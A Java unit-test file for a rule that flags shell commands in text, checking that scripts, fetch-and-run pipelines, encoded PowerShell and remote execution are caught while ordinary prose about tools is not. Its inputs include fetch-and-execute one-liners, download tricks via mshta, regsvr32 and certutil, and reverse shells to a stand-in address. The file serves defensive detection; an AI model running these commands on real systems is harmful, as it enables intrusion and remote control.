package io.cavra.readiness.core.publicsafe.script;

import static io.cavra.readiness.core.publicsafe.Judgement.assertFound;
import static io.cavra.readiness.core.publicsafe.Judgement.assertNotFound;

import io.cavra.readiness.core.publicsafe.Plant;
import org.junit.jupiter.api.Test;

class ScriptRuleTest {

  @Test
  void scriptFindsInterpreterLines() {
    assertFound(
        "script",
        "#!" + "/bin/bash",
        "#!" + "/usr/bin/env python3\nprint(1)",
        "#! " + "/bin/sh -e",
        "run this:\n#!" + "/bin/sh\necho x");
  }

  @Test
  void scriptFindsFetchAndRun() {
    assertFound(
        "script",
        "curl -fsSL https://example.com/x.sh" + " | sh",
        "wget -qO- https://example.com/x" + " | sudo bash -s --",
        "bash <(curl " + "-s https://example.com/x)",
        "sh -c \"$(curl " + "-fsSL https://example.com/x)\"",
        "iex (iwr " + "https://example.com/x.ps1)",
        "irm https://example.com/x" + " | iex",
        "IEX (New-Object Net.WebClient).Download" + "String('https://example.com/x')",
        "echo x | base64 -d" + " | sh");
  }

  @Test
  void scriptFindsEncodedCommands() {
    String code = Plant.base64("w\0h\0o\0a\0m\0i\0");
    assertFound(
        "script",
        "powershell -EncodedCommand " + code,
        "powershell.exe -nop -w hidden -enc " + code,
        "pwsh -e " + code);
  }

  @Test
  void scriptFindsRemoteExecution() {
    assertFound(
        "script",
        "ssh deploy@build7 " + "systemctl restart cavra",
        "ssh -p 2222 build7 " + "uptime",
        "ssh -i key build7.example.com " + "'rm -rf /tmp/x'",
        "Invoke-Command -ComputerName " + "srv01 -ScriptBlock { x }",
        "psexec \\\\" + "srv01 cmd",
        "ansible all " + "-m shell -a uptime",
        "kubectl exec " + "cavra-0 -- ls");
  }

  @Test
  void scriptFindsCommandsInARow() {
    assertFound(
        "script",
        "kubectl get pods && " + "kubectl delete pod x",
        "systemctl stop cavra; " + "systemctl start cavra",
        "systemctl stop cavra\n" + "systemctl start cavra",
        "cd /opt/cavra && " + "./run.sh",
        "ps aux | " + "grep cavra",
        "docker stop x || " + "docker kill x",
        "Get-Process | " + "Stop-Process",
        "Stop-Service cavra; " + "Start-Service cavra",
        "$ make build\n" + "$ make deploy",
        "set -e\n" + "rm -rf /tmp/x\n" + "mkdir /tmp/x",
        "for i in 1 2; do " + "rm -f $i; done");
  }

  @Test
  void scriptFindsCommandsWhoseNamesAreWordsInARow() {
    assertFound(
        "script",
        "cat run.log | " + "grep WARN",
        "cat run.json | " + "jq .",
        "grep WARN run.log | " + "sort | uniq -c",
        "journalctl -u agent | " + "tail",
        "systemctl stop agent && " + "sleep 3 && systemctl start agent",
        "systemctl stop agent; " + "sleep 3; systemctl start agent",
        "service agent stop && " + "service agent start",
        "net stop agent && " + "net start agent",
        "net stop agent & " + "net start agent",
        "touch marker && " + "chmod 600 marker",
        "ip link set lan0 down && " + "ip link set lan0 up",
        "sudo -u ops systemctl stop agent && " + "sudo -u ops systemctl start agent",
        "/opt/agent/stop.sh && " + "/opt/agent/start.sh",
        "stop.sh && " + "start.sh",
        "whoami && " + "id",
        "if systemctl is-active agent; " + "then systemctl stop agent; fi",
        "cp a.json b.json; " + "rm a.json",
        "mvn clean; " + "mvn install");
  }

  @Test
  void scriptFindsWhatRunsWhatItFetchesOrDecodes() {
    String url = "https://example.com/x";
    assertFound(
        "script",
        "Run curl -s " + url + " | sh.",
        "python3 <(curl " + url + ")",
        "node <(curl -s " + url + ")",
        "perl -e \"$(wget -qO- " + url + ")\"",
        "eval \"$(base64 -d " + "<<< aWQ)\"",
        "python -c \"exec(__import__('base" + "64').b64decode('aWQ'))\"",
        "php -r \"eval(base" + "64_decode('aWQ'));\"",
        "eval(atob(" + "'aWQ'))",
        "powershell /enc " + Plant.base64("w\0h\0o\0a\0m\0i\0"),
        "Invoke-WebRequest " + url + " -OutFile x.ps1; " + ".\\x.ps1",
        "mshta " + url,
        "regsvr32 /s /i:" + url + " scrobj.dll",
        "certutil -urlcache -f " + url + " x",
        "bitsadmin /transfer j " + url + " x");
  }

  @Test
  void scriptFindsWhatRunsElsewhereWithOptionsBeforeIt() {
    assertFound(
        "script",
        "docker exec -it store " + "bash",
        "docker exec store " + "sh -c ls",
        "podman exec store " + "ls",
        "kubectl -n prod exec agent-0 " + "-- sh",
        "salt \"*\" " + "cmd.run ls",
        "ansible web " + "-m ping",
        "ansible-playbook -i prod " + "site.yml",
        "Invoke-Command node1 " + "{ ls }",
        "ssh node1 -- " + "ls",
        "bash -i >& /dev/" + "tcp/192.0.2.1/99",
        "nc -e /bin/" + "sh 192.0.2.1 99");
  }

  @Test
  void scriptLeavesSentencesAboutRemoteAndFetchedCommandsAlone() {
    assertNotFound(
        "script",
        "kubectl exec permission is revoked",
        "Each kubectl exec call is logged.",
        "kubectl exec calls: none",
        "aws ssm send-command rights revoked",
        "gcloud compute ssh blocked",
        "plink deleted from the image",
        "psexec \\\\ usage is forbidden",
        "ansible -a is not used",
        "Never \"curl ... | sh\" here.",
        "\"wget | sh\" is banned",
        "curl, wget | bash: refused",
        "base64 -d | bash patterns are refused",
        "the -EncodedCommand argument is refused",
        "the fresh (curl 8.5) build",
        "curl (8.5) is installed | sh is dash",
        "exec(plan) is required; base64 is not",
        "certutil is blocked, see https://example.com/x");
  }

  @Test
  void scriptFindsASettingBeforeACommand() {
    assertFound(
        "script",
        "export MODE=off && " + "systemctl restart agent",
        "export MODE=off; " + "systemctl restart agent",
        "export MODE=off\n" + "systemctl restart agent",
        "MODE=off && " + "systemctl restart agent",
        "source .venv/bin/activate && " + "pytest");
    assertNotFound("script", "mode=off && healthy=true", "MODE=off; restart the agent");
  }

  @Test
  void scriptLeavesReportsThatNameToolsAlone() {
    assertNotFound(
        "script",
        "git commit verified; docker image scanned",
        "nginx restarted; python kept",
        "mvn test passed\ngradle test passed",
        "python 3.13; node 22; git 2.44",
        "helm 3.15 | docker 26.1 | kubectl 1.30",
        "npm audit: 0 findings; cargo audit: 1 finding",
        "docker, helm; kubectl, git",
        "terraform plan: no changes; helm diff: no changes",
        "node pool restored; node pool healthy",
        "make sure; make haste",
        "make test && make lint passed",
        "vault sealed && consul healthy",
        "| kubectl (1.30) | helm (3.15) |",
        "git log shows the fix\nhelm list shows one release");
  }

  @Test
  void scriptLeavesOneLocalCommandInAStepAlone() {
    assertNotFound(
        "script",
        "Run systemctl restart cavra",
        "systemctl restart cavra",
        "Run `kubectl rollout restart deploy/cavra` and wait.",
        "1. Run systemctl stop cavra\n2. Run systemctl start cavra",
        "CAVRA_GO_BACKEND_MODE=disabled systemctl restart cavra",
        "export CAVRA_GO_BACKEND_MODE=promoted\nexport CAVRA_GO_RUNTIME_PATH=/opt/cavra",
        "curl http://127.0.0.1:8000/x",
        "Stop; wait; start",
        "make the plan; sort the list; cut the costs",
        "use ssh keys; rotate them",
        "ssh is disabled; use the console",
        "pass | fail",
        "date | host | time",
        "python | java | go",
        "R&D && QA",
        "restart #1! done",
        "cavra runtime select \\\n  --mode promoted \\\n  --json",
        "docker and kubectl are installed; curl is not",
        "fetch the report | then read it");
  }
}
